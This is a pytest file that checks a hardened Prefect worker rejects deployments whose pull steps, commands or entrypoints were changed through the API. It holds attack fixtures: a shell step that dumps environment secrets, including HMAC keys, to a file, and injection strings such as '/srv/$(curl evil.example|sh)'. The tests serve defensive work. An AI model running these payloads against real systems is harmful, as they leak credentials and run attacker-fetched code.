"""The hardened worker runs only the shipped flows, whatever the Prefect API says (issue 15 item 1).

The attack, as reported: a caller with write access to the Prefect API PATCHes a deployment's
``pull_steps`` with a ``run_shell_script`` that writes the worker's environment (the store's URL,
the HMAC keys) to a file, and starts a run. A stock ``prefect worker`` runs it. ``custody worker``
refuses the deployment: nothing runs, the run is marked crashed, and the audit trail names the
refused deployment. The same worker still runs an untouched deployment of the shipped file.
"""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, select

from custody.store.tables import audit_log
from flows.hardened import REFUSED_ACTION
from tests.support.env import custody_env
from tests.support.labs import make_lab_results
from tests.support.pagila import table_digests
from tests.support.postgres import DatabaseFactory
from tests.support.prefect_server import ROOT, DeployedProject, api_call, deployed_custody

pytestmark = pytest.mark.xdist_group("deployed-custody")  # shares the deployed server

FINAL = {"COMPLETED", "FAILED", "CRASHED", "CANCELLED"}


def _create_run(api: str, deployment_id: str, params: dict[str, Any]) -> str:
    response = api_call(
        "POST",
        f"{api}/deployments/{deployment_id}/create_flow_run",
        json={"parameters": {"params": params}},
    )
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


def _wait(api: str, run_ids: list[str], timeout: float = 120) -> dict[str, dict[str, Any]]:
    deadline, states = time.monotonic() + timeout, {}
    while time.monotonic() < deadline:
        for run_id in run_ids:
            run = api_call("GET", f"{api}/flow_runs/{run_id}").json()
            states[run_id] = run["state"]
        if all(s["type"] in FINAL for s in states.values()):
            return states
        time.sleep(0.5)
    raise AssertionError(f"runs not finished after {timeout:.0f} s: {states}")


def _actions(store: Engine, run_id: str) -> set[str]:
    with store.connect() as conn:
        query = select(audit_log.c.action).where(audit_log.c.correlation_id == run_id)
        return set(conn.execute(query).scalars())


def _patch(api: str, deployment_id: str, changes: dict[str, Any]) -> None:
    response = api_call("PATCH", f"{api}/deployments/{deployment_id}", json=changes)
    assert response.status_code == 204, response.text


def _worker(args: list[str], env: dict[str, str], cwd: Path, log: Path) -> None:
    with log.open("ab") as out:
        done = subprocess.run(
            [*args, "--run-once", "--limit", "4"],
            env=env | {"PREFECT_WORKER_PREFETCH_SECONDS": "30"},
            cwd=cwd,
            stdout=out,
            stderr=subprocess.STDOUT,
            timeout=240,
        )
    assert done.returncode == 0, log.read_text()[-3000:]


@pytest.mark.slow
def test_issue_15_item_1_a_patched_pull_step_runs_nothing_on_the_hardened_worker(
    request: pytest.FixtureRequest, pg_store: Engine, tmp_path: Path
) -> None:
    """Issue 15 item 1: PATCHed pull_steps / job_variables run on a stock worker, not on ours."""
    deployed: DeployedProject = deployed_custody(request)
    api, ids = deployed.server.api_url, deployed.deployment_ids()
    objects = tmp_path / "objects"
    env = deployed.server.client_env(
        **custody_env(store_url=pg_store.url.render_as_string(hide_password=False)),
        CUSTODY_OBJECT_STORE_URL=objects.as_uri(),
        PREFECT_WORKER_QUERY_SECONDS="1",
    )
    cwd = tmp_path / "worker-cwd"
    cwd.mkdir()
    stock = [sys.executable, "-m", "prefect", "worker", "start", "--pool", "custody"]
    hardened = [sys.executable, "-m", "custody.cli", "worker", "--pool", "custody"]
    marker, marker2 = tmp_path / "stolen-env", tmp_path / "stolen-env-2"
    steal = {"prefect.deployments.steps.run_shell_script": {
        "script": f"sh -c 'env > {marker}'", "stream_output": False}}  # fmt: skip
    # Not audit-maintenance: test_deployments.py serves it, which re-registers it for serve.
    anchor, report = ids["anchor-audit-chain"], ids["compliance-report"]
    originals = {i: api_call("GET", f"{api}/deployments/{i}").json() for i in (anchor, report)}
    try:
        # The attack works against a stock worker started as the README used to say.
        _patch(api, anchor, {"pull_steps": [steal]})
        first = _create_run(api, anchor, {})
        _worker(stock, env, cwd, tmp_path / "stock-worker.log")
        _wait(api, [first])
        assert "CUSTODY_HMAC_KEYS" in marker.read_text()  # the keys left the worker
        marker.unlink()

        # The hardened worker: the same PATCH, plus a command and an entrypoint through the API.
        _patch(api, report, {"job_variables": {"command": f"sh -c 'env > {marker2}'"},
                             "entrypoint": "flows/demo.py:demo"})  # fmt: skip
        attacked = [_create_run(api, anchor, {}), _create_run(api, report, {})]
        untouched = _create_run(api, ids["replay-dead-letters"], {"kind": "copy"})
        _worker(hardened, env, cwd, tmp_path / "hardened-worker.log")
        states = _wait(api, [*attacked, untouched])
    finally:
        for deployment_id, original in originals.items():
            _patch(api, deployment_id, {k: original[k] for k in
                                        ("pull_steps", "job_variables", "entrypoint")})  # fmt: skip

    assert not marker.exists() and not marker2.exists()  # nothing ran
    for run_id in attacked:
        assert states[run_id]["type"] == "CRASHED", states[run_id]
        assert "differs from the shipped prefect.yaml" in states[run_id]["message"]
    assert states[untouched]["type"] == "COMPLETED", (tmp_path / "hardened-worker.log").read_text()
    with pg_store.connect() as conn:
        refused = conn.execute(
            select(audit_log.c.resource_id, audit_log.c.status, audit_log.c.details,
                   audit_log.c.correlation_id)
            .where(audit_log.c.action == REFUSED_ACTION)
            .order_by(audit_log.c.seq)
        ).all()  # fmt: skip
    by_run = {r.correlation_id: r for r in refused}
    assert set(by_run) == set(attacked)
    assert by_run[attacked[0]].resource_id == "anchor-audit-chain"
    assert by_run[attacked[0]].details["differs"] == ["pull_steps"]
    assert by_run[attacked[1]].resource_id == "compliance-report"
    assert by_run[attacked[1]].details["differs"] == ["entrypoint", "job_variables"]
    assert {r.status for r in refused} == {"denied"}
    assert str(ROOT) not in str([r.details for r in refused])  # fields named, not their content


@pytest.mark.slow
def test_issue_15_item_1_custody_serve_refuses_a_patched_deployment(
    request: pytest.FixtureRequest, pg_store: Engine, tmp_path: Path
) -> None:
    """Issue 15 item 1: the same PATCH against `custody serve`: nothing runs, refusal audited."""
    deployed: DeployedProject = deployed_custody(request)
    api = deployed.server.api_url
    env = deployed.server.client_env(
        **custody_env(store_url=pg_store.url.render_as_string(hide_password=False)),
        CUSTODY_OBJECT_STORE_URL=(tmp_path / "objects").as_uri(),
        PREFECT_RUNNER_POLL_FREQUENCY="1",
    )
    name, marker = "anchor-audit-chain", tmp_path / "stolen-env"
    deployment_id = deployed.deployment_ids()[name]
    original = api_call("GET", f"{api}/deployments/{deployment_id}").json()
    serve = [str(Path(sys.executable).parent / "custody"), "serve", name, "--no-schedules"]
    log = tmp_path / "serve.log"
    with log.open("wb") as out:
        server = subprocess.Popen(serve, env=env, cwd=tmp_path, stdout=out,
                                  stderr=subprocess.STDOUT, start_new_session=True)  # fmt: skip
    try:
        deadline = time.monotonic() + 120
        while (
            api_call("GET", f"{api}/deployments/{deployment_id}").json()["entrypoint"]
            == (original["entrypoint"])
        ):  # serve re-registers the deployment with its module path
            assert time.monotonic() < deadline and server.poll() is None, log.read_text()
            time.sleep(0.5)
        steal = {
            "prefect.deployments.steps.run_shell_script": {"script": f"sh -c 'env > {marker}'"}
        }
        _patch(api, deployment_id, {"pull_steps": [steal]})
        run_id = _create_run(api, deployment_id, {})
        state = _wait(api, [run_id])[run_id]
    finally:
        server.terminate()
        server.wait(timeout=30)
        keep = ("entrypoint", "pull_steps", "job_variables", "path", "work_pool_name",
                "work_queue_name")  # fmt: skip
        _patch(api, deployment_id, {k: original[k] for k in keep})
    assert not marker.exists()
    assert state["type"] == "CRASHED", state
    assert "differs from the shipped prefect.yaml (pull_steps)" in log.read_text()
    with pg_store.connect() as conn:
        refused = conn.execute(
            select(audit_log.c.resource_id, audit_log.c.details).where(
                audit_log.c.action == REFUSED_ACTION, audit_log.c.correlation_id == run_id
            )
        ).one()
    assert refused.resource_id == name and refused.details["differs"] == ["pull_steps"]


@pytest.mark.slow
def test_the_hardened_worker_cancels_a_running_flow_and_runs_its_cancellation_hook(
    request: pytest.FixtureRequest, pg_store: Engine, pg_databases: DatabaseFactory, tmp_path: Path
) -> None:
    """Cancelling from the UI still works under `custody worker` (it runs its own processes).

    An archival waiting for approval is a running flow run; set to Cancelling through the API,
    the worker stops its process, marks it Cancelled and runs the flow's own hook, which audits
    ``data.archival.cancelled``. Nothing was archived or deleted.
    """
    deployed: DeployedProject = deployed_custody(request)
    api = deployed.server.api_url
    ehr = pg_databases.create("ehr")
    make_lab_results(ehr, 50)
    before = table_digests(ehr)
    env = deployed.server.client_env(
        **custody_env(
            store_url=pg_store.url.render_as_string(hide_password=False),
            connections={"ehr": ehr},
        ),
        CUSTODY_OBJECT_STORE_URL=(tmp_path / "objects").as_uri(),
        PREFECT_WORKER_QUERY_SECONDS="1",
    )
    policy = {"name": "lab_results", "table": "lab_results", "timestamp_column": "collected_at",
              "cutoff": "2030-01-01"}  # fmt: skip
    params = {"database": "ehr", "policies": [policy], "require_approval": True,
              "job_id": "hardened-cancel"}  # fmt: skip
    run_id = _create_run(api, deployed.deployment_ids()["archive-to-s3"], params)
    log = tmp_path / "worker.log"
    args = [sys.executable, "-m", "custody.cli", "worker", "--pool", "custody", "--limit", "2"]
    with log.open("wb") as out:
        worker = subprocess.Popen(args, env=env, cwd=tmp_path, stdout=out,
                                  stderr=subprocess.STDOUT, start_new_session=True)  # fmt: skip
    try:
        deadline = time.monotonic() + 150
        while api_call("GET", f"{api}/flow_runs/{run_id}").json()["state"]["type"] != "PAUSED":
            assert time.monotonic() < deadline and worker.poll() is None, log.read_text()[-3000:]
            time.sleep(0.5)
        response = api_call(
            "POST",
            f"{api}/flow_runs/{run_id}/set_state",
            json={"state": {"type": "CANCELLING"}, "force": True},
        )
        assert response.status_code in (200, 201), response.text
        state = _wait(api, [run_id], timeout=90)[run_id]
        assert state["type"] == "CANCELLED", (state, log.read_text()[-3000:])
        deadline = time.monotonic() + 60  # the hook runs once the process has stopped
        while "data.archival.cancelled" not in (actions := _actions(pg_store, run_id)):
            assert time.monotonic() < deadline, (actions, log.read_text()[-3000:])
            time.sleep(0.5)
    finally:
        worker.terminate()
        worker.wait(timeout=60)
    assert table_digests(ehr) == before  # nothing archived, nothing deleted


def test_issue_15_item_1_only_the_deploy_directory_may_vary_in_the_pull_steps() -> None:
    """Issue 15 item 1: shipped steps with a plain directory pass; shell syntax there fails."""
    from flows.hardened import _steps_match, shipped_specs

    _, pull = shipped_specs()
    text = json.dumps(pull)
    assert "{{ project-root.stdout }}" in text

    def stored(directory: str, value: Any = None) -> Any:
        value = pull if value is None else value
        if isinstance(value, dict):
            return {k: stored(directory, v) for k, v in value.items()}
        if isinstance(value, list):
            return [stored(directory, v) for v in value]
        if isinstance(value, str):
            return value.replace("{{ project-root.stdout }}", directory)
        return value

    assert _steps_match(pull, stored("/srv/custody checkout/app"))
    for hostile in ("/srv/$(curl evil.example|sh)", "/srv/`id`", "/srv\"; env > /tmp/x; \"",
                    "/srv'; env; '"):  # fmt: skip
        assert not _steps_match(pull, stored(hostile)), hostile
    assert not _steps_match(pull, [*stored("/srv"), {"prefect.deployments.steps.pip_install": {}}])
    assert not _steps_match(pull, stored("/srv")[:1])
